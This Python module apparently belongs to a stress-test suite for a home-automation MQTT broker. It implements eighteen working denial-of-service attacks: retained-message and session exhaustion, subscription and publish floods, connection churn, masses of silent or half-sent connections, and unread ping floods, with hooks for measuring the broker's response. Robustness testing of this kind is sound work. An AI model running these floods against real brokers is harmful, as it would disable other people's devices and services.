"""What they do. An attack takes an Attacker and goes on until `stop` is set: with all that it holds, and as fast as it can.

Each begins to hurt before it says `ready`, so that whoever watches measures the attack and not its run-up. What the hub refuses is
part of an attack's life: it goes on with what it has."""

import contextlib
import itertools
import select
import threading

import mqtt_packets as packets

_SOME = 64  # packets that a flood sends at once
_REFUSED = (OSError, EOFError)
_REPLAYERS, _REPLAYS = 40, 180  # four of them are enough, where each is answered in time


class Attack(threading.Thread):
    """An attack under way, as a context manager. `refusals` are the reason codes that the hub answered it with, `entered`,
    `sent` and `thrown_out` how often it was let in, got rid of what it is about, and had to go for it."""

    def __init__(self, function, attacker):
        super().__init__(daemon=True)
        self.stop = threading.Event()
        self.ready = threading.Event()
        self.refusals = set()
        self.entered = 0
        self.sent = 0
        self.thrown_out = 0
        self.error = None
        self._function = function
        self._attacker = attacker
        self._held = []

    def __enter__(self):
        self.start()
        if not self.ready.wait(2 * packets.PATIENCE):
            raise AssertionError(f"{self._function.__name__} did not get under way")
        return self

    def __exit__(self, *_):
        self.stop.set()
        self.join(packets.PATIENCE)
        for wire in self._held:
            wire.close()

    def run(self):
        try:
            self._function(self, self._attacker)
        except Exception as error:  # told by whoever plays it
            self.error = error
        finally:
            self.ready.set()

    def hold(self, wire):
        self._held.append(wire)
        return wire

    def linger(self):
        """Under way, and nothing more to do."""
        self.ready.set()
        self.stop.wait()

    def enter(self, **options):
        """A client that is held, or None where the hub lets no more of them in."""
        try:
            wire, code = self._attacker.enter(**options)
        except _REFUSED:
            return None
        if code != 0:
            self.refusals.add(code)
            return None
        self.entered += 1
        return self.hold(wire)

    def enter_again(self, **options):
        """As enter(), until it succeeds: a flood goes on after the hub has thrown it out."""
        while not self.stop.is_set():
            if wire := self.enter(**options):
                return wire
            self.stop.wait(0.01)
        raise EOFError


def _clear(wire, topics):
    """What was retained makes room for the next attack."""
    with contextlib.suppress(*_REFUSED):
        wire.send(*(packets.publish(topic, b"", retain=True) for topic in topics), packets.publish("hostile/end", b"", qos=1))
        wire.await_type(packets.PUBACK)


def _fill(attack, topic, payload, enough, **options):
    """QoS 1 and retained, one after the other, until the hub has refused ten, or left them without an answer, or taken
    `enough`; then one more every now and then."""
    wire = None
    refused = 0
    for number in itertools.count():
        if refused >= 10 or number >= enough:
            attack.ready.set()
            attack.stop.wait(0.01)
        if attack.stop.is_set():
            return _clear(wire, map(topic, range(number))) if wire else None
        try:
            wire = wire or attack.enter(**options)
            if wire is None:
                refused += 1
                continue
            wire.send(packets.publish(topic(number), payload, qos=1, retain=True, number=number % 65535 + 1))
            code = packets.reason_of(wire.await_type(packets.PUBACK))
        except _REFUSED:
            wire = None
            refused += 1
            continue
        if code in (0, 0x10):
            attack.sent += 1
        else:
            attack.refusals.add(code)
            refused += 1


def fill_with_large(attack, attacker):
    """Retained messages of 900 KB."""
    _fill(attack, "fill/large/{}".format, b"x" * 900_000, enough=200)


def fill_with_many(attack, attacker):
    """Retained messages of a few bytes, each on a topic of its own."""
    _fill(attack, lambda number: f"fill/{number}/{'deep/' * 20}many", b"x", enough=20_000)


def fill_under_odd_names(attack, attacker):
    """As a client whose id is long, and of characters of two bytes."""
    _fill(attack, "fill/odd/{}".format, b"x" * 100_000, enough=2000, name="x" + "é" * 200)


def fill_with_wills(attack, attacker):
    """Topics with a byte each, then a large will on every one of them, of clients that are cut off."""
    wire = attack.enter_again()
    topics = [f"fill/wills/{number}" for number in range(500)]
    wire.send(*(packets.publish(topic, b"x", retain=True) for topic in topics))
    for topic in topics:
        if dying := attack.enter(will=(topic, b"x" * 60_000)):
            dying.close()
    attack.linger()
    _clear(wire, topics)


def fill_sessions(attack, attacker):
    """Sessions that sleep for a week and want everything."""
    for _ in range(1500):
        wire = attack.enter(session_expiry=7 * 24 * 3600)
        if wire is None:
            break
        try:
            wire.send(packets.subscribe("event/#", "#"))
            wire.await_type(packets.SUBACK)
        except _REFUSED:
            pass
        wire.close()
    attack.linger()


def fill_subscriptions(attack, attacker):
    """As many filters as a client may have, from as many clients as may come."""
    for client in range(400):
        wire = attack.enter()
        if wire is None:
            break
        try:
            for batch in range(10):
                wire.send(packets.subscribe(*(f"fill/{client}/{batch}/{each}/+" for each in range(100))))
                attack.refusals |= {code for code in wire.await_type(packets.SUBACK)[3:] if code >= 0x80}
        except _REFUSED:
            pass
    attack.linger()


def _flood(attack, attacker, bytes_, clients):
    """Sends the same bytes for ever, and reads nothing that it need not."""
    def pour(under_way):
        wire = None
        while not attack.stop.is_set():
            try:
                wire = wire or attack.enter_again()
                wire.send(bytes_)
                attack.sent += 1
                under_way.set()
                _drain(wire)
            except _REFUSED:
                wire = None

    _several(attack, pour, clients)


def _several(attack, work, count):
    """Threads that do the work until the attack is over. It is under way when each of them says so."""
    signs = [threading.Event() for _ in range(count)]
    threads = [threading.Thread(target=work, args=(sign,), daemon=True) for sign in signs]
    for each in threads:
        each.start()
    for sign in signs:
        while not sign.wait(0.1) and not attack.stop.is_set():
            pass
    attack.linger()
    for each in threads:
        each.join(packets.PATIENCE)


def _drain(wire):
    while select.select([wire.socket], [], [], 0)[0]:
        if not wire.socket.recv(1 << 20):
            raise EOFError


def flood_qos_0(attack, attacker):
    """Small messages that nobody asked for, from four clients."""
    _flood(attack, attacker, packets.publish("flood/zero", b"x" * 20) * _SOME, clients=4)


def flood_qos_1(attack, attacker):
    """Small messages to be acknowledged, from four clients."""
    _flood(attack, attacker, packets.publish("flood/one", b"x" * 20, qos=1) * _SOME, clients=4)


def flood_events(attack, attacker):
    """Small events to be acknowledged, which the director of the house listens for, from four clients."""
    event = b'{"v":1,"id":"x","type":"flood.event","source":"hostile","seq":1,"timestamp":1,"data":{}}'
    _flood(attack, attacker, packets.publish("tutti/event/flood/event", event, qos=1) * _SOME, clients=4)


def flood_large(attack, attacker):
    """Messages of 900 KB, from two clients."""
    _flood(attack, attacker, packets.publish("flood/large", b"x" * 900_000, qos=1), clients=2)


def flood_connects(attack, attacker):
    """Comes and goes, as fast as it can."""
    def come_and_go(under_way):
        while not attack.stop.is_set():
            try:
                wire, code = attacker.enter()
                wire.close()
                attack.entered += code == 0
                under_way.set()
            except _REFUSED:
                attack.stop.wait(0.01)

    _several(attack, come_and_go, count=4)


def flood_subscribes(attack, attacker):
    """One filter after the other in packets of a megabyte, each of which the hub would search all that is retained for."""
    wire = attack.enter_again()
    wire.socket.settimeout(packets.PATIENCE)
    topics = [f"flood/subscribes/{number}/{'deep/' * 5}" for number in range(1000)]
    wire.send(*(packets.publish(topic, b"x", retain=True) for topic in topics))
    many = packets.subscribe(*(["#"] * 10_000 + ["+/+/+/+/+/nowhere"] * 45_000), qos=0)
    wire.send(many)
    attack.refusals |= {code for code in wire.await_type(packets.SUBACK)[3:] if code >= 0x80}
    _flood(attack, attacker, many, clients=2)
    _clear(wire, topics)


def hold_silent(attack, attacker):
    """1,100 connections that never say who they are, and come back when they are thrown out."""
    silent = []
    while not attack.stop.is_set():
        try:
            silent.append(attacker.wire())
        except OSError:
            attack.stop.wait(0.01)
        if len(silent) == 1100:
            attack.ready.set()
        if len(silent) > 1100:
            silent.pop(0).close()
    for wire in silent:
        wire.close()


def hold_clients(attack, attacker):
    """A thousand clients that stay, with keep-alive 0."""
    while len(attack._held) < 1000 and attack.enter() is not None:
        pass
    attack.linger()


def hold_unread(attack, attacker):
    """Wants everything and reads nothing, while another one pours."""
    for _ in range(20):
        if wire := attack.enter():
            wire.send(packets.subscribe("hold/#", qos=1))
    _flood(attack, attacker, packets.publish("hold/unread", b"x" * 1000, qos=1) * 8, clients=1)


def hold_halves(attack, attacker):
    """Packets of a megabyte that stop half way, from as many clients as may come."""
    half = packets.publish("hold/half", b"x" * 1_000_000)[:500_000]
    for _ in range(200):
        wire = attack.enter()
        if wire is None:
            break
        try:
            wire.socket.settimeout(0.5)
            wire.send(half)
        except _REFUSED:
            pass
    attack.linger()


def hold_answers(attack, attacker):
    """Pings without end, whose answers nobody reads."""
    pings = packets.pingreq() * 32_768
    halves = {wire: 0 for wire in (attack.enter(room=4096) for _ in range(16)) if wire}
    for wire in halves:
        wire.socket.settimeout(0)
    while halves and not attack.stop.is_set():
        for wire, half in list(halves.items()):
            try:
                sent = wire.socket.send(pings[half:])
                attack.sent += sent
                halves[wire] = (half + sent) % 2
            except BlockingIOError:
                continue
            except OSError:
                attack.thrown_out += 1
                del halves[wire]
        attack.ready.set()
        attack.stop.wait(0.001)
    attack.linger()


def hold_replays(attack, attacker):
    """Asks for what is retained again and again while it is replaced, and acknowledges none of it. A client that is not answered in
    time holds what it has, and another one goes on."""
    wires = []
    for number in range(_REPLAYERS):
        if attack.sent >= 4 * _REPLAYS or attack.stop.is_set():
            break
        topic = f"hold/replays/{number}"
        if not (wire := attack.enter()):
            continue
        wires.append((wire, topic))
        with contextlib.suppress(*_REFUSED):
            for _ in range(_REPLAYS):
                wire.send(
                    packets.publish(topic, b"%d" % attack.sent + b"x" * 60_000, qos=1, retain=True),
                    packets.subscribe(topic, own=False))
                wire.await_type(packets.SUBACK)
                attack.sent += 1
    attack.linger()
    for wire, topic in wires:
        _clear(wire, [topic])


ATTACKS = {
    "fill with large": fill_with_large,
    "fill with many": fill_with_many,
    "fill under odd names": fill_under_odd_names,
    "fill with wills": fill_with_wills,
    "fill sessions": fill_sessions,
    "fill subscriptions": fill_subscriptions,
    "flood QoS 0": flood_qos_0,
    "flood QoS 1": flood_qos_1,
    "flood events": flood_events,
    "flood large": flood_large,
    "flood connects": flood_connects,
    "flood subscribes": flood_subscribes,
    "hold silent": hold_silent,
    "hold clients": hold_clients,
    "hold unread": hold_unread,
    "hold halves": hold_halves,
    "hold answers": hold_answers,
    "hold replays": hold_replays,
}
